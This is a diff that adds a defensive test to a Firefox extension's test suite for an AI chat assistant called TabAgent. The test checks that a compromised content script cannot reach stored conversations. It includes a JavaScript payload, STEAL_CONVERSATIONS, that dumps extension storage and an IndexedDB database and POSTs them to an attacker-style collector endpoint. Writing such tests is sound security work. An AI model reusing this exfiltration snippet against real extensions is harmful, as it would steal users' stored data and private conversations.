@@ -82,3 +82,46 @@ def test_a_content_script_cannot_run_turns_tools_or_settings(tab, model, site, p
     assert post.hits == [] and model.requests == []
     assert firefox.evaluate(tab.chat, SETTINGS_NOW) == settings_before
     assert "FORGED" not in firefox.evaluate(tab.chat, "document.body.textContent")
+
+
+# What a compromised content script that still has the storage API takes: all of storage.local,
+# and a database of TabAgent's name in its own (the page's) origin; it posts what it found to
+# the attacker's listening post.
+STEAL_CONVERSATIONS = """async (collector) => {
+  const local = await chrome.storage.local.get(null);
+  const database = await new Promise((resolve) => {
+    const request = indexedDB.open("tabagent-conversations");
+    request.onsuccess = () => resolve([...request.result.objectStoreNames]);
+    request.onerror = () => resolve(String(request.error));
+  });
+  const found = JSON.stringify({ local, database });
+  await fetch(collector, { method: "POST", body: found, mode: "no-cors" }).catch(() => {});
+  return { keys: Object.keys(local), database, found };
+}"""
+
+CONFIDED = "My biopsy came back positive, what should I ask the oncologist?"
+ALL_CONVERSATIONS = "import(chrome.runtime.getURL('extension/shared/conversations.js')).then((m) => m.loadAllConversations())"
+
+
+def test_a_content_script_that_kept_the_storage_api_finds_no_conversation(tab, model, site, post):
+    """Firefox lets content scripts read storage.local. The first wall removes the storage API
+    from TabAgent's content-script world before its page tools meet a page; here no page tool
+    has run in the page yet, so the script still has it, as one that got past that wall would.
+    It reads everything and posts it to the listening post: the user's conversation is not
+    there (it is in the extension's own database, which a page's origin cannot open), and the
+    panel still has it."""
+    model.reset()
+    post.hits.clear()
+    firefox = tab.firefox
+    firefox.evaluate(tab.chat, "document.getElementById('new-chat').click()")
+    model.script(Reply(text="Ask about the stage and the options."))
+    send(firefox, tab.chat, CONFIDED)
+    assert wait_for_status(firefox, tab.chat, "ok", "error") == "ok"
+    url = site.url("hostile.html") + "?storage"
+    tab.show(url)
+    taken = as_content_script(firefox, tab.chat, url, STEAL_CONVERSATIONS, post.url("collect"))
+    assert "settings" in taken["keys"]  # the storage API is there: only the second wall stands
+    assert [hit["path"] for hit in post.hits] == ["/collect"]  # the post hears what was found ...
+    assert "biopsy" not in post.hits[0]["body"] and "oncologist" not in taken["found"]  # ... and no conversation
+    assert [key for key in taken["keys"] if key.startswith("conversation")] == [] and taken["database"] == []
+    assert CONFIDED in json.dumps(firefox.evaluate(tab.chat, ALL_CONVERSATIONS))
